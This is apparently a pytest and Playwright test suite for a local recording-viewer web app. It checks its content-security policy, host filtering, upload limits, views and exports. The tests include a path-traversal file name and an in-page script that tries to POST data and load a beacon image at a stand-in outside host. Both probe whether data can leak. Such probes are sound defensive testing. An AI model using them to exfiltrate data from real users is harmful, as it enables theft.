"""The viewer's server, and the page in a real browser."""

from __future__ import annotations

import base64
import io
import json
import os
import sys
import threading
import time
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from conftest import signal

from n1codec.codec import CodecError
from n1codec.datasets import synth
from n1codec.recordings import wav

ALL = bool(os.environ.get("N1_REQUIRE_ALL"))
CHANNELS, RATE = 12, 19531
SIZE = {"width": 900, "height": 600}
VIEWS = ("Signals", "Image", "Correlation", "Spectrum", "Compression", "Ratio and speed")

if not ALL:
    pytest.importorskip("dash")
from n1codec.viewer import app, layout, session, speed, state  # noqa: E402
from n1codec.viewer.callbacks import Sessions  # noqa: E402
from n1codec.viewer.jobs import Cancelled  # noqa: E402

RESULTS = Path(__file__).parent.parent / "results"


@pytest.fixture(scope="module")
def sessions(tmp_path_factory: pytest.TempPathFactory) -> Sessions:
    folder, cache = tmp_path_factory.mktemp("recordings"), tmp_path_factory.mktemp("cache")
    synth.write(folder, CHANNELS, 1.0)
    opened = session.open_paths([folder], cache)
    opened.prepare()
    return Sessions(opened, cache)


@pytest.fixture
def ask(sessions: Sessions) -> Any:
    """What the page asks the server: a function from an output's name and the inputs to what changes on the page."""
    asked = speed.client(app.create(sessions, RESULTS))

    def call(wanted: str, values: dict[str, Any]) -> Any:
        answer = asked(wanted, values)
        assert answer.status_code in (200, 204), answer.status
        return answer.get_json()["response"] if answer.status_code == 200 else {}

    return call


def data_url(data: bytes) -> str:
    return "data:audio/wav;base64," + base64.b64encode(data).decode()


# -- the server ------------------------------------------------------------------------------------------------------


def test_the_page_needs_no_other_server(sessions: Sessions) -> None:
    client = app.create(sessions, RESULTS).server.test_client()
    text = client.get("/").text
    assert "app.js" in text and "style.css" in text
    assert "http://" not in text and "https://" not in text
    for line in text.split('src="')[1:]:
        assert client.get(line.partition('"')[0]).status_code == 200


ALLOWED = {"zoom2d", "pan2d", "zoomIn2d", "zoomOut2d", "resetScale2d"}
"""Buttons of plotly.js that change what is shown and nothing else."""


def graphs(component: Any) -> Iterator[Any]:
    """Yield every graph of a page."""
    if type(component).__name__ == "Graph":
        yield component
    for inner in component._traverse() if hasattr(component, "_traverse") else ():
        if type(inner).__name__ == "Graph":
            yield inner


def sends_nothing(config: dict[str, Any]) -> None:
    assert {name for group in config["modeBarButtons"] for name in group} <= ALLOWED
    assert "modeBarButtonsToAdd" not in config
    for name in ("displaylogo", "showSendToCloud", "showEditInChartStudio", "showLink"):
        assert config[name] is False, name
    assert config["plotlyServerURL"] == ""


def test_no_graph_can_send_its_plot_anywhere(sessions: Sessions, ask: Any) -> None:
    found = list(graphs(app.create(sessions, RESULTS).layout))
    assert {graph.id for graph in found} == {"main", "detail"}
    for graph in found:
        sends_nothing(graph.config)
    for view in state.VIEWS:
        sends_nothing(ask("main.config", {"state.data": f"?view={view}", "size.data": SIZE})["main"]["config"])


def test_the_browser_is_told_to_refuse_other_servers(sessions: Sessions) -> None:
    client = app.create(sessions, RESULTS).server.test_client()
    for path in ("/", "/_dash-layout", "/assets/app.js", "/nothing-here"):
        headers = client.get(path).headers
        rules = dict(rule.split(" ", 1) for rule in headers["Content-Security-Policy"].split("; "))
        assert rules["default-src"] == rules["connect-src"] == "'self'"
        assert rules["form-action"] == rules["base-uri"] == rules["object-src"] == "'none'"
        for sources in rules.values():
            assert all(s in ("data:", "blob:") or s[0] + s[-1] == "''" for s in sources.split())  # no host
        assert "unsafe" not in rules["script-src"]
        assert headers["Cross-Origin-Opener-Policy"] == "same-origin"


def test_only_this_machine_is_served_unless_told_otherwise(sessions: Sessions) -> None:
    def status(host: str, name: str) -> int:
        return app.create(sessions, RESULTS, host).server.test_client().get("/", headers={"Host": name}).status_code

    assert status("127.0.0.1", "localhost:8050") == status("127.0.0.1", "127.0.0.1:8050") == 200
    assert status("127.0.0.1", "rebound.example:8050") == 403
    assert status("0.0.0.0", "somewhere.example:8050") == 200


def test_a_port_that_is_taken_is_told(sessions: Sessions) -> None:
    made = app.create(sessions, RESULTS)
    server = app.server(made, "127.0.0.1", 0)
    try:
        assert server.host == "127.0.0.1"
        with pytest.raises(CodecError, match="choose another with --port"):
            app.server(made, "127.0.0.1", server.server_port)
    finally:
        server.server_close()


def test_a_request_has_a_limit(sessions: Sessions, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(app, "MOST_DROPPED", 1000)
    client = app.create(sessions, RESULTS).server.test_client()
    assert client.post("/_dash-update-component", data=b"x" * 2000, content_type="application/json").status_code >= 400


def test_dropped_files_are_read_by_the_same_readers(sessions: Sessions, monkeypatch: pytest.MonkeyPatch) -> None:
    data = wav.write(signal(3000, 2), 8000)
    opened = sessions.drop(["../../a/b\\mine.wav"], [data_url(data)])
    assert (opened.names, opened.frames, opened.rate) == (["mine:0", "mine:1"], 3000, 8000)
    assert np.array_equal(opened.signals.T, signal(3000, 2))
    assert sessions.get(opened.key[:12]) is opened
    assert sessions.get("no such key") is sessions.first
    for name, content, words in (
        ("a.wav", data_url(b"no sound"), "a.wav: it is no WAV file"),
        ("a.txt", data_url(b"a text"), "a.txt: no reader understands it"),
        ("a.zip", data_url(b"PK\3\4 no zip"), "a.zip: no reader understands it"),
        ("a.wav", "data:audio/wav;base64,????", "a.wav: it did not arrive whole"),
    ):
        with pytest.raises(CodecError, match=words):
            sessions.drop([name], [content])
    monkeypatch.setattr(layout, "MEGABYTES", 0)
    with pytest.raises(CodecError, match="larger than 0 MB"):
        sessions.drop(["a.wav"], [data_url(data)])


def test_a_description_may_be_dropped_with_its_file(sessions: Sessions) -> None:
    about = json.dumps({"channels": 2, "rate": 8000}).encode()
    samples = signal(3000, 2)
    opened = sessions.drop(["a.bin", "a.bin.json"], [data_url(samples.astype("<i2").tobytes()), data_url(about)])
    assert (opened.names, opened.rate, opened.notes) == (["a:0", "a:1"], 8000, [])
    assert np.array_equal(opened.signals.T, samples)


def test_the_page_says_what_was_left_out(sessions: Sessions, ask: Any) -> None:
    whole = wav.write(signal(3000, 2), 8000)
    files = {"good.wav": whole, "cut.wav": whole[:-400], **{f"bad{i}.wav": b"no sound" for i in range(9)}}
    opened = sessions.drop(list(files), [data_url(data) for data in files.values()])
    shown = json.dumps(ask("about.children", {"url.search": f"?data={opened.key[:12]}"})["about"])
    for words in ("4 channels", "cut.wav: it was cut off, 100 of its 3,000 frames are missing", "Left out: bad0.wav: ",
                  "and 7 notes more"):  # fmt: skip
        assert words in shown


def test_a_zip_may_be_dropped(sessions: Sessions, monkeypatch: pytest.MonkeyPatch) -> None:
    import zipfile

    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        for name in ("x/one.wav", "x/two.wav"):
            archive.writestr(name, wav.write(signal(2000, seed=len(name)), 8000))
    assert sessions.drop(["both.zip"], [data_url(packed.getvalue())]).names == ["one", "two"]
    monkeypatch.setattr("n1codec.viewer.callbacks.MOST_UNPACKED", 100)
    with pytest.raises(CodecError, match=r"both\.zip: there is more than 0 MB in it"):
        sessions.drop(["both.zip"], [data_url(packed.getvalue())])


def test_padding_has_an_end(sessions: Sessions, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("n1codec.viewer.session._PADDED_FREELY", 1000)
    long, wide = np.zeros((20_000, 1), np.int16), np.zeros((10, 900), np.int16)
    with pytest.raises(CodecError, match="differ too much in length"):
        sessions.drop(["long.wav", "wide.wav"], [data_url(wav.write(x, 1000)) for x in (long, wide)])


@pytest.mark.slow
def test_bench_names_every_view(sessions: Sessions) -> None:
    lines = list(speed.report(sessions, RESULTS))
    for name in (
        "signals, zoom",
        "image, pan",
        "image, order ward",
        "correlation, kendall",
        "spectrogram",
        "compression",
    ):
        assert any(line.startswith(name) for line in lines), name


# -- what the page asks the server -----------------------------------------------------------------------------------


def samples(array: dict[str, Any]) -> np.ndarray:
    """The numbers of an array as Plotly takes it."""
    flat = np.frombuffer(base64.b64decode(array["bdata"]), array["dtype"])
    return flat.reshape([int(n) for n in array["shape"].split(",")]) if "shape" in array else flat


def test_a_link_sets_every_control(ask: Any, sessions: Sessions) -> None:
    link = "?view=image&first=2&last=6&start=100&stop=900&linkage=ward&measure=kendall&colours=full&focus=3"
    got = ask("app.className", {"url.search": link})
    assert got["app"]["className"] == "app view-image"
    assert state.parse(got["state"]["data"]) == state.parse(link)
    assert (got["channels"]["value"], got["channels"]["max"]) == ([2, 5], CHANNELS - 1)
    assert (got["frames"]["value"], got["frames"]["max"]) == ([100, 900], sessions.first.frames)
    assert [got[name]["value"] for name in ("linkage", "measure", "colours", "focus")] == ["ward", "kendall", "full", 3]
    text = json.dumps(got["about"])
    assert f"{CHANNELS} channels, 1.000 s" in text and f"{RATE:,} samples at {RATE:,} Hz" in text


@pytest.mark.parametrize(
    ("changed", "before", "after"),
    [
        ({"channels.value": [3, 4]}, "?", "?first=3&last=5"),
        ({"frames.value": [50, 800]}, "?", "?start=50&stop=800"),
        ({"key.data": {"key": "]", "count": 1}}, "?", "?first=4&last=12"),
        ({"key.data": {"key": "2", "count": 1}}, "?", "?view=image"),
        ({"view.value": "spectrum"}, "?", "?view=spectrum"),
        ({"view.value": "no such view"}, "?view=image", "?"),
        ({"main.relayoutData": {"xaxis.range[0]": 0.1, "xaxis.range[1]": 0.2}}, "?", "?start=1953&stop=3906"),
        ({"main.relayoutData": {"dragmode": "pan"}}, "?", "?drag=pan"),
        ({"main.relayoutData": {"xaxis.range[0]": 1, "xaxis.range[1]": 2}}, "?view=correlation", None),
        ({"detail.relayoutData": {"xaxis.range": [0, 0.5], "yaxis.range": [0, 1]}}, "?view=compression",
         "?view=compression&stop=9766"),
        ({"main.clickData": {"points": [{"x": 4, "y": 2}]}}, "?view=correlation", "?view=correlation&focus=2&other=4"),
        ({"main.clickData": {"points": [{"x": 0.3, "y": 7.2}]}}, "?view=image", "?view=image&focus=7"),
        ({"main.clickData": {"points": [{"x": 0.3, "y": 99}]}}, "?view=image", None),
        ({"main.clickData": {"points": [{"x": 0.3}]}}, "?view=image", None),
        ({"main.clickData": {"points": [{"x": 1, "y": 1}]}}, "?view=spectrum", None),
        ({"key.data": {"key": "0", "count": 1}}, "?", None),
    ],
)  # fmt: skip
def test_what_changes_on_the_page_changes_the_state(ask: Any, changed: Any, before: str, after: str | None) -> None:
    got = ask("app.className", changed | {"state.data": before.rstrip("?")})
    if after is None:
        assert got == {}  # nothing is drawn anew
    else:
        assert state.parse(got["state"]["data"]) == state.parse(after)


def test_a_dropped_file_is_shown_from_its_beginning(ask: Any) -> None:
    url = data_url(wav.write(signal(3000, 2, seed=9), 8000))
    got = ask("dropped.data", {"drop.contents": [url], "drop.filename": ["mine.wav"]})
    key = got["dropped"]["data"]
    assert got["trouble"]["children"] == "" and got["drop"]["contents"] is None
    moved = ask("app.className", {"dropped.data": key, "state.data": "?view=image&start=9000&stop=9999"})
    now = state.parse(moved["state"]["data"])
    assert (now.data, now.view, now.start, moved["frames"]["max"]) == (key, "signals", 0, 3000)
    figure = ask("main.figure", {"state.data": f"?data={key}&stop=200", "size.data": SIZE})["main"]["figure"]
    drawn = samples(figure["data"][1]["y"])
    assert np.array_equal(drawn[:200], signal(3000, 2, seed=9)[:200, 1])
    refused = ask("dropped.data", {"drop.contents": [data_url(b"no sound")], "drop.filename": ["no.wav"]})
    assert "no.wav: it is no WAV file" in refused["trouble"]["children"] and "dropped" not in refused


def test_figures_are_of_the_samples(ask: Any, sessions: Sessions) -> None:
    opened = sessions.first
    got = ask("main.figure", {"state.data": "?start=1000&stop=1400&first=2&last=5", "size.data": SIZE})
    figure = got["main"]["figure"]
    for channel, trace in zip(range(2, 5), figure["data"], strict=True):
        x, y = samples(trace["x"]), samples(trace["y"])
        inside = (x * RATE >= 999.5) & (x * RATE < 1399.5)
        assert np.array_equal(y[inside], opened.signals[channel, 1000:1400])
    assert got["range"]["children"].startswith("channels 2 to 4 of 12, samples 1,000 to 1,400 (0.0512 to 0.0717 s)")
    assert (got["title"]["children"], got["job"]["data"], got["detail-box"]["hidden"]) == ("Signals", "", True)
    assert got["main"]["config"]["scrollZoom"] is True
    image = ask("main.figure", {"state.data": "?view=image&start=1000&stop=1400", "size.data": SIZE})
    z = samples(image["main"]["figure"]["data"][0]["z"])
    assert np.array_equal(z[:, :400], opened.signals[:, 1000:1400])
    many = ask("main.figure", {"state.data": "?last=12", "size.data": {"width": 900, "height": 300}})
    assert many["main"]["style"]["height"] > 300 and many["main"]["config"]["scrollZoom"] is False
    assert ask("main.figure", {"state.data": "?"}) == {}  # the page has not measured itself yet
    dark = ask("main.figure", {"state.data": "?", "size.data": SIZE, "dark.data": True})["main"]["figure"]
    assert dark["layout"]["paper_bgcolor"] == "#141a23"


def test_long_work_is_told_cancelled_and_started_again(ask: Any, sessions: Sessions) -> None:
    go, jobs = threading.Event(), sessions.first.jobs

    def work(progress: Any, cancel: threading.Event) -> str:
        progress(0.25)
        while not go.wait(0.01):
            if cancel.is_set():
                raise Cancelled
        raise CodecError("what was wrong")

    def poll() -> dict[str, Any]:
        return ask("progress-text.children", {"clock.n_intervals": 1, "job.data": "slow", "finished.data": 7})

    def cancel() -> dict[str, Any]:
        return ask("finished.data", {"cancel.n_clicks": 1, "job.data": "slow", "state.data": "?", "finished.data": 7})

    assert poll()["progress"]["hidden"] is True and cancel() == {}  # there is no such job
    jobs.start("slow", "Slow work", work)
    deadline = time.monotonic() + 20
    while poll()["progress-text"]["children"] != "Slow work: 25 %":
        assert time.monotonic() < deadline
    assert (poll()["progress-bar"]["style"]["width"], poll()["clock"]["disabled"]) == ("25.0%", False)
    assert cancel()["finished"]["data"] == 8
    assert poll()["progress-text"]["children"] == "Slow work: cancelled"
    assert poll()["cancel"]["children"] == "Start again"
    cancel()
    assert jobs.get("slow") is None  # the view starts it again
    go.set()
    jobs.start("slow", "Slow work", work).wait(20)
    assert poll()["progress-text"]["children"] == "Slow work: what was wrong"
    cancel()
    jobs.start("slow", "Slow work", lambda progress, cancel: "done").wait(20)
    finished = poll()
    assert (finished["progress"]["hidden"], finished["finished"]["data"]) == (True, 8)
    jobs.forget("slow")


def test_a_view_waits_for_its_job(ask: Any, sessions: Sessions, tmp_path: Path) -> None:
    (tmp_path / "two.wav").write_bytes(wav.write(signal(4000, 2, seed=4), 8000))
    opened = sessions.drop(["two.wav"], [data_url((tmp_path / "two.wav").read_bytes())])
    query = f"?data={opened.key[:12]}&view=correlation"
    got = ask("main.figure", {"state.data": query, "size.data": SIZE})
    for name in ("pearson", "groups"):
        if got["job"]["data"] == name:
            assert got["clock"]["disabled"] is False and got["progress"]["hidden"] is False
            found = opened.jobs.get(name)
            assert found is not None
            found.wait(60)
            got = ask("main.figure", {"state.data": query, "size.data": SIZE, "finished.data": 1})
    assert got["job"]["data"] == "" and got["progress"]["hidden"] is True
    r = samples(got["main"]["figure"]["data"][0]["z"])
    assert np.allclose(r, np.corrcoef(opened.signals.astype(float)), atol=1e-6)


def test_a_csv_is_sent_or_said_why_not(ask: Any, sessions: Sessions, monkeypatch: pytest.MonkeyPatch) -> None:
    got = ask("download.data", {"csv.n_clicks": 1, "state.data": "?start=5&stop=25&first=1&last=3"})
    rows = got["download"]["data"]["content"].splitlines()
    assert rows[0] == "sample,synth_01,synth_02" and len(rows) == 21
    expected = sessions.first.signals[1:3, 5:25].T
    assert [[int(cell) for cell in row.split(",")] for row in rows[1:]] == np.c_[np.arange(5, 25), expected].tolist()
    monkeypatch.setattr("n1codec.viewer.export.MOST_CELLS", 10)
    refused = ask("download.data", {"csv.n_clicks": 2, "state.data": "?"})
    assert "too many for a CSV" in refused["trouble"]["children"] and "download" not in refused


# -- the command -----------------------------------------------------------------------------------------------------


@pytest.fixture
def view(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Any:
    """Run ``n1codec view``, fetch its page once, and end it; return the result, the page and the address opened."""
    from click.testing import CliRunner

    from n1codec.cli.view import command

    monkeypatch.chdir(tmp_path)
    seen: dict[str, Any] = {}
    made = app.server

    def served(*arguments: Any) -> Any:
        server = made(*arguments)

        def once() -> None:
            thread = threading.Thread(target=type(server).serve_forever, args=(server,))
            thread.start()
            with urllib.request.urlopen(f"http://127.0.0.1:{server.server_port}/") as answer:
                seen["page"], seen["headers"] = answer.read().decode(), answer.headers
            server.shutdown()
            thread.join()

        server.serve_forever = once
        return server

    monkeypatch.setattr(app, "server", served)
    monkeypatch.setattr("webbrowser.open", lambda address: seen.update(opened=address))

    def call(*arguments: object) -> tuple[Any, dict[str, Any]]:
        return CliRunner().invoke(command, [*map(str, arguments), "--cache", "cache"]), seen

    return call


def test_view_serves_the_recordings_and_tells_what_it_left_out(view: Any, tmp_path: Path) -> None:
    (tmp_path / "good.wav").write_bytes(wav.write(signal(900, 2), 8000))
    (tmp_path / "bad.wav").write_bytes(b"no sound")
    done, seen = view(tmp_path, "--port", 0)
    assert done.exit_code == 0, done.output
    assert "2 channels of 900 frames at 8000 Hz" in done.stderr
    assert "Left out: bad.wav: it is no WAV file" in done.stderr
    assert seen["opened"] in done.stderr and seen["opened"].startswith("http://localhost:")
    assert "N1 Codec viewer" in seen["page"] and "default-src 'self'" in seen["headers"]["Content-Security-Policy"]
    assert (tmp_path / "cache").is_dir() and done.stdout == ""
    seen.clear()
    done, seen = view(tmp_path / "good.wav", "--port", 0, "--no-browser")
    assert done.exit_code == 0 and "opened" not in seen and "Left out" not in done.stderr


def test_view_refuses_what_it_cannot_show(view: Any, tmp_path: Path) -> None:
    done, seen = view(tmp_path / "gone.wav")
    assert isinstance(done.exception, CodecError) and "no such file" in str(done.exception)
    (tmp_path / "bad.wav").write_bytes(b"no sound")
    done, seen = view(tmp_path / "bad.wav")
    assert isinstance(done.exception, CodecError) and "bad.wav: it is no WAV file" in str(done.exception)
    assert seen == {}
    assert view("--port", "70000")[0].exit_code == 2


def test_view_says_how_to_get_dash(view: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "dash", None)
    assert "make view" in str(view()[0].exception)


def test_view_bench_prints_and_serves_nothing(view: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "good.wav").write_bytes(wav.write(signal(900), 8000))
    monkeypatch.setattr(speed, "report", lambda sessions, results: [f"{sessions.first.frames} in {results}"])
    done, seen = view(tmp_path, "--bench", "--results", tmp_path / "r")
    assert (done.exit_code, done.stdout, seen) == (0, f"900 in {tmp_path / 'r'}\n", {})


# -- in a browser ----------------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def address(sessions: Sessions) -> Iterator[str]:
    server = app.server(app.create(sessions, RESULTS), "127.0.0.1", 0)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}/"
    server.shutdown()
    thread.join()
    server.server_close()


def until(page: Any, expression: str, arg: Any = None) -> None:
    """Wait until an expression is true in the page; the page's own policy forbids Playwright's way to wait for it."""
    deadline = time.monotonic() + 60
    while not page.evaluate(expression, arg):
        assert time.monotonic() < deadline, expression
        page.wait_for_timeout(50)


class Page:
    """A page that remembers what went wrong in it."""

    def __init__(self, browser: Any, address: str, query: str = "", **options: Any) -> None:
        self.page = browser.new_page(**{"viewport": {"width": 1280, "height": 800}} | options)
        self.page.set_default_timeout(60_000)
        self.errors: list[str] = []
        self.page.on("pageerror", lambda error: self.errors.append(str(error)))
        self.page.on("console", lambda m: self.errors.append(m.text) if m.type == "error" else None)
        self.page.on("requestfailed", lambda request: self.errors.append(f"failed: {request.url}"))
        self.address = address
        self.page.goto(address + query)
        self.settled()

    def settled(self, title: str | None = None) -> None:
        """Wait until the figure is that of the state, and no job runs."""
        if title:
            until(self.page, "title => document.getElementById('title').textContent === title", arg=title)
        until(
            self.page,
            "() => document.querySelector('#main .main-svg') && document.getElementById('about').textContent"
            " && document.getElementById('progress').hidden && document.title.indexOf('Updating') < 0"
            " && !document.querySelector('#main[data-dash-is-loading]')",
        )
        self.page.wait_for_timeout(400)

    def layout(self, path: str, graph: str = "main") -> Any:
        return self.page.evaluate(f"document.querySelector('#{graph} .js-plotly-plot').layout.{path}")

    def query(self) -> str:
        return str(self.page.evaluate("window.location.search"))

    def close(self) -> None:
        self.page.close()
        assert not self.errors


@pytest.mark.slow
def test_nothing_leaves_the_machine(browser: Any, address: str) -> None:
    context = browser.new_context(viewport={"width": 1280, "height": 800})
    elsewhere: list[str] = []

    def watch(route: Any) -> None:
        if route.request.url.startswith((address, "data:", "blob:")):
            route.continue_()
        else:
            elsewhere.append(route.request.url)
            route.abort()

    context.route("**/*", watch)
    page = context.new_page()
    refused: list[str] = []
    page.on("console", lambda message: refused.append(message.text) if message.type == "error" else None)
    page.goto(address)
    offered = set()
    for key, view in enumerate(state.VIEWS, start=1):
        page.wait_for_selector("#main .main-svg")
        page.locator("h1").click()
        page.keyboard.press(str(key))
        page.wait_for_selector(f"#app.view-{view}")
        until(page, "document.getElementById('progress').hidden && document.querySelector('#main .main-svg')")
        page.wait_for_timeout(500)
        page.locator("#main .js-plotly-plot").hover()
        for button in page.locator("#main .modebar-btn").all():
            offered.add(button.get_attribute("data-title"))
            button.click(force=True)
            page.wait_for_timeout(50)
        assert page.locator(".plotly-cloud-dialog-box").count() == 0
        assert page.locator("a[href^=http], .modebar-btn--logo, .js-plot-link-container").count() == 0
    assert offered <= {"Zoom", "Pan", "Zoom in", "Zoom out", "Reset axes"} and len(offered) == 5
    assert elsewhere == [] and len(context.pages) == 1
    assert refused == []  # what the page itself needs is allowed
    # Even a script on the page could send nothing: the browser refuses.
    tried = page.evaluate(
        """() => Promise.allSettled([
             fetch("https://elsewhere.example/", {method: "POST", body: "samples", mode: "no-cors"}),
             new Promise((good, bad) => {
               const image = new Image();
               image.onload = good;
               image.onerror = bad;
               image.src = "https://elsewhere.example/?samples";
             }),
           ]).then((all) => all.map((one) => one.status))"""
    )
    assert tried == ["rejected", "rejected"]
    assert elsewhere == []
    assert sum("Content Security Policy" in text for text in refused) >= 2
    context.close()


@pytest.mark.slow
def test_every_view_shows_and_a_link_reproduces_it(browser: Any, address: str) -> None:
    shown = Page(browser, address)
    for title in VIEWS[1:] + VIEWS[:1]:
        shown.page.get_by_text(title, exact=True).locator("visible=true").first.click()
        shown.settled(title)
        assert shown.page.locator("#main .main-svg").count()
        again = Page(browser, address, shown.query())
        again.settled(title)
        assert again.layout("meta") == shown.layout("meta")
        again.close()
    shown.close()


@pytest.mark.slow
def test_zoom_with_the_mouse_and_the_keys(browser: Any, address: str) -> None:
    shown = Page(browser, address)
    box = shown.page.locator("#main .nsewdrag").first.bounding_box()
    assert box
    middle = box["y"] + box["height"] / 2
    shown.page.mouse.move(box["x"] + 0.25 * box["width"], middle)
    shown.page.mouse.down()
    shown.page.mouse.move(box["x"] + 0.5 * box["width"], middle, steps=5)
    shown.page.mouse.up()
    until(shown.page, "window.location.search.includes('start')")
    shown.settled()
    low, high = shown.layout("xaxis.range")
    assert low == pytest.approx(0.25, abs=0.02) and high == pytest.approx(0.5, abs=0.02)
    before = shown.layout("meta.width")
    shown.page.locator("h1").click()
    for _ in range(3):
        shown.page.keyboard.press("+")
        shown.settled()
    assert shown.layout("meta.width") < before
    low, high = shown.layout("xaxis.range")
    shown.page.keyboard.press("ArrowRight")
    shown.settled()
    assert shown.layout("xaxis.range")[0] == pytest.approx(low + (high - low) / 4, abs=2 / RATE)
    shown.page.keyboard.press("0")
    shown.settled()
    assert "start" not in shown.query()
    shown.page.keyboard.press("o")
    shown.settled()
    assert "mode=overlaid" in shown.query() and len(shown.layout("meta.names")) == 8
    shown.close()


@pytest.mark.slow
def test_the_y_range_follows_while_the_mouse_pans(browser: Any, address: str) -> None:
    shown = Page(browser, address, "?start=4000&stop=5000")
    shown.page.locator("#main .js-plotly-plot").hover()
    shown.page.locator("#main [data-title=Pan]").click()
    until(shown.page, "document.querySelector('#main .js-plotly-plot').layout.dragmode === 'pan'")
    shown.settled()
    ranges = [f"yaxis{number}.range" for number in ("", *range(2, 9))]
    before = [shown.layout(name) for name in ranges]
    box = shown.page.locator("#main .nsewdrag").first.bounding_box()
    assert box
    shown.page.mouse.move(box["x"] + 0.6 * box["width"], box["y"] + 0.8 * box["height"])
    shown.page.mouse.down()
    shown.page.mouse.move(box["x"] + 0.2 * box["width"], box["y"] + 0.8 * box["height"], steps=8)
    shown.page.wait_for_timeout(500)
    during = [shown.layout(name) for name in ranges]
    assert "start=4000" in shown.query()  # it is not let go yet
    assert during != before
    shown.page.mouse.up()
    until(shown.page, "!window.location.search.includes('start=4000')")
    shown.settled()
    assert [shown.layout(name) for name in ranges] == during
    assert shown.layout("dragmode") == "pan"
    shown.close()


@pytest.mark.slow
def test_exact_entry(browser: Any, address: str) -> None:
    shown = Page(browser, address)
    field = shown.page.locator("#frames .dash-range-slider-min-input")
    field.fill("12345")
    field.press("Enter")
    until(shown.page, "window.location.search.includes('start=12345')")
    shown.settled()
    assert shown.layout("xaxis.range")[0] == pytest.approx(12345 / RATE)
    shown.close()


@pytest.mark.slow
def test_reorder_and_click_a_cell(browser: Any, address: str) -> None:
    shown = Page(browser, address, "?view=correlation")
    names = shown.layout("meta.names")
    shown.page.locator("#linkage").click()
    shown.page.get_by_text("Ward", exact=True).last.click()
    until(shown.page, "window.location.search.includes('linkage=ward')")
    shown.settled()
    ordered = shown.layout("meta.names")
    assert sorted(ordered) == sorted(names) and ordered != names
    box = shown.page.locator("#main .nsewdrag").first.bounding_box()
    assert box
    shown.page.mouse.move(box["x"] + box["width"] * 2.5 / CHANNELS, box["y"] + box["height"] * 5.5 / CHANNELS)
    shown.page.wait_for_timeout(300)
    lines = shown.page.locator("#pointer").inner_text().splitlines()
    assert [line.split()[0] for line in lines[:2]] == [name.split()[0] for name in (ordered[5], ordered[2])]
    shown.page.mouse.down()
    shown.page.mouse.up()
    until(shown.page, "!document.getElementById('detail-box').hidden")
    shown.settled()
    texts = {note["text"] for note in shown.layout("annotations", "detail")}
    assert texts == {ordered[5], ordered[2]}
    shown.close()


@pytest.mark.slow
def test_hover_names_channel_sample_time_and_value(browser: Any, address: str, sessions: Sessions) -> None:
    shown = Page(browser, address, "?stop=64")
    box = shown.page.locator("#main .nsewdrag").first.bounding_box()
    assert box
    shown.page.mouse.move(box["x"] + box["width"] * 32 / 64 + 1, box["y"] + box["height"] / 2)
    shown.page.wait_for_selector("#pointer:not([hidden])")
    name, sample, value = shown.page.locator("#pointer").inner_text().splitlines()
    assert name.startswith("0 ") and sample.startswith("sample 32, 0.00164 s")
    assert value == f"value {sessions.first.signals[0, 32]:,}"
    shown.close()


@pytest.mark.slow
def test_drop_a_file(browser: Any, address: str, tmp_path: Path) -> None:
    shown = Page(browser, address)
    broken = tmp_path / "broken.wav"
    broken.write_bytes(b"RIFF and nothing else")
    shown.page.locator("#drop input[type=file]").set_input_files(broken)
    until(shown.page, "document.getElementById('trouble').textContent.includes('broken.wav')")
    large = tmp_path / "large.wav"
    with large.open("wb") as file:
        file.truncate((layout.MEGABYTES << 20) + 1)
    shown.page.locator("#drop input[type=file]").set_input_files(large)
    until(shown.page, "document.getElementById('trouble').textContent.includes('large.wav')")
    mine = tmp_path / "mine.wav"
    mine.write_bytes(wav.write(signal(5000, 3), 8000))
    shown.page.locator("#drop input[type=file]").set_input_files(mine)
    until(shown.page, "document.getElementById('about').textContent.includes('3 channels')")
    shown.settled()
    assert shown.page.locator("#trouble").inner_text() == ""
    assert shown.layout("meta.names") == ["0  mine:0", "1  mine:1", "2  mine:2"]
    again = Page(browser, address, shown.query())
    assert again.layout("meta.names") == shown.layout("meta.names")
    again.close()
    shown.close()


@pytest.mark.slow
def test_export(browser: Any, address: str) -> None:
    shown = Page(browser, address, "?stop=100&last=2")
    for kind, begin in (("png", b"\x89PNG"), ("svg", b"<svg"), ("csv", b"sample,")):
        with shown.page.expect_download() as waiting:
            shown.page.locator(f"#{kind}").click()
        assert Path(waiting.value.path()).read_bytes().startswith(begin)
    shown.close()


@pytest.mark.slow
@pytest.mark.parametrize("width, height", [(390, 844), (820, 1180)], ids=["phone", "tablet"])
def test_small_windows(browser: Any, address: str, width: int, height: int) -> None:
    shown = Page(browser, address, viewport={"width": width, "height": height}, has_touch=True)
    assert not shown.page.locator(".side").is_visible()
    for title in VIEWS[1:]:
        shown.page.locator("#menu").click()
        shown.page.get_by_text(title, exact=True).locator("visible=true").first.click()
        shown.settled(title)
        assert shown.page.evaluate("document.documentElement.scrollWidth") <= width
        assert not shown.page.locator(".side").is_visible()
    shown.close()


@pytest.mark.slow
def test_light_and_dark(browser: Any, address: str) -> None:
    shown = Page(browser, address, color_scheme="dark")
    assert shown.layout("paper_bgcolor") == "#141a23"
    shown.page.keyboard.press("d")
    until(shown.page, "document.documentElement.dataset.theme === 'light'")
    shown.settled()
    assert shown.layout("paper_bgcolor") == "#ffffff"
    shown.close()


@pytest.mark.slow
def test_an_error_is_told_on_the_page(browser: Any, address: str) -> None:
    shown = Page(browser, address, "?view=compression&codec=zzstd")
    assert "unknown codec" in json.dumps(shown.layout("annotations"))
    shown.close()
